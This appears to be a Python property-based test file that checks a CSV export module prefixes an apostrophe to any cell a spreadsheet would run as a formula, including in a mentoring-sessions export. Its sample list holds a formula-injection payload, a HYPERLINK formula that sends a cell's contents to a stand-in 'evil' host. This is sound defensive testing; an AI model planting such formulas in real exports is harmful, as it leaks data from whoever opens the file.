"""Exports neutralise spreadsheet formulas: any text cell a spreadsheet would run (=, +, -, @ and
friends) is written with a leading apostrophe; everything else, numbers included, is untouched."""

from __future__ import annotations

import csv
import io

import pandas as pd
from hypothesis import given, settings
from hypothesis import strategies as st

from gfj_core.exports.safety import (
    FORMULA_PREFIXES,
    neutralise_cell,
    neutralise_row,
    safe_csv_bytes,
)
from tests.property.strategies import NASTY_TEXT

FORMULAS = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "=1+1", "\t=1"]
TEXT = st.one_of(
    st.text(max_size=20),
    st.sampled_from(NASTY_TEXT + FORMULAS),
    st.tuples(st.sampled_from(FORMULA_PREFIXES), st.text(max_size=10)).map("".join),
)


def _runs_in_a_spreadsheet(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES)


@settings(max_examples=200, deadline=None)
@given(TEXT)
def test_a_text_cell_is_neutralised_exactly_when_a_spreadsheet_would_run_it(text):
    out = neutralise_cell(text)
    assert not _runs_in_a_spreadsheet(out)
    # Nothing else changes: the apostrophe is the only addition, and only where needed.
    assert out == ("'" + text if _runs_in_a_spreadsheet(text) else text)


@settings(max_examples=50, deadline=None)
@given(st.one_of(st.integers(), st.floats(allow_nan=False), st.booleans(), st.none(), st.dates()))
def test_numbers_dates_and_booleans_are_left_as_data(value):
    assert neutralise_cell(value) == value


@settings(max_examples=40, deadline=None)
@given(st.lists(st.tuples(TEXT, st.integers(-(10**6), 10**6)), min_size=1, max_size=6), TEXT)
def test_a_csv_export_holds_no_cell_a_spreadsheet_would_run(rows, header):
    frame = pd.DataFrame(rows, columns=[header or "h", "Amount"])
    if header == "Amount":
        frame.columns = ["Text", "Amount"]
    data = safe_csv_bytes(frame)
    assert data.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads accents
    cells = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    # One line per row (a CR or LF inside a cell stays inside it) and no text cell to run.
    assert len(cells) == len(rows) + 1
    assert not any(_runs_in_a_spreadsheet(row[0]) for row in cells)
    # Negative amounts are numbers, not formulas: written as they are.
    assert [int(r[1]) for r in cells[1:]] == [a for _, a in rows]


def test_dict_rows_neutralise_keys_too():
    assert neutralise_row({"=x": "@y", "n": -1}) == {"'=x": "'@y", "n": -1}


def test_the_sessions_csv_export_neutralises_formulas(demo_db):
    from datetime import date

    from gfj_core.db import session_scope
    from gfj_core.schemas.leadership import SessionCreate
    from gfj_core.services.mentoring import (
        mentored_leader_ids,
        record_session,
        sessions_export_rows,
    )
    from tests.conftest import DEMO_TODAY, demo_actor

    mentor = demo_actor(demo_db, "mentor")
    with session_scope(demo_db, write=True, actor=mentor) as s:
        leader_id = min(s.scalars(mentored_leader_ids(mentor)))
        record_session(
            s,
            SessionCreate(
                leader_id=leader_id,
                held_on=date(2026, 11, 21),
                minutes=30,
                shared_notes=FORMULAS[0],
            ),
            today=DEMO_TODAY,
            actor=mentor,
        )
    with session_scope(demo_db) as s:
        rows = sessions_export_rows(s, leader_id, today=DEMO_TODAY, actor=mentor)
    assert not any(_runs_in_a_spreadsheet(v) for row in rows for v in row.values())
